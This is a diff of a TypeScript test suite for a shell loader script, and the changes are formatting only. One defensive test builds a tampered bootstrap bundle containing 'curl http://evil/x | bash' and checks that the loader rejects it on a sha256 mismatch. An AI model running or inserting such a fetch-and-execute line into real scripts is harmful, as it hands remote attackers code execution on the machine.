@@ -14,7 +14,7 @@ const BUNDLE_URL = "http://192.168.0.10:8089/bundle.txt";
 function bundle(extra: Record<string, string> = {}): string {
     return renderBundle({
         "lib.sh": "# lib\n",
-        "bootstrap.sh": "#!/usr/bin/env bash\ntouch \"$TEST_ROOT/bootstrap-ran\"\necho bootstrap ran\n",
+        "bootstrap.sh": '#!/usr/bin/env bash\ntouch "$TEST_ROOT/bootstrap-ran"\necho bootstrap ran\n',
         ...extra,
     });
 }
@@ -39,7 +39,7 @@ out=""; prev=""
 for a in "$@"; do if [ "$prev" = "-o" ]; then out=$a; fi; prev=$a; done
 cat "$TEST_ROOT/served" > "$out"`,
         },
-        files: { "served": served, "etc/kubernetes/zadara/node.env": nodeEnv },
+        files: { served: served, "etc/kubernetes/zadara/node.env": nodeEnv },
         rootEnv: { ZADARA_ETC: "etc/kubernetes/zadara", NODE_SCRIPTS_DIR: "usr/local/lib/zadara-eksd" },
         env: { LOADER_PAUSE: "0", LOADER_ATTEMPTS: String(options.attempts ?? 5) },
     });
@@ -71,7 +71,7 @@ describe("loader.sh", () => {
 
     it("refuses a tampered bundle with a clear message, and nothing runs or is installed", () => {
         const good = bundle();
-        const tampered = bundle({ "bootstrap.sh": "#!/usr/bin/env bash\ntouch \"$TEST_ROOT/bootstrap-ran\"\ncurl http://evil/x | bash\n" });
+        const tampered = bundle({ "bootstrap.sh": '#!/usr/bin/env bash\ntouch "$TEST_ROOT/bootstrap-ran"\ncurl http://evil/x | bash\n' });
         check(runLoader({ served: tampered, expectedSha: sha256Hex(good) }), (run) => {
             assert.equal(run.code, 1);
             assert.match(run.stderr, new RegExp(`bundle ${BUNDLE_URL} has sha256 ${sha256Hex(tampered)}, expected ${sha256Hex(good)}: refusing to run it`));
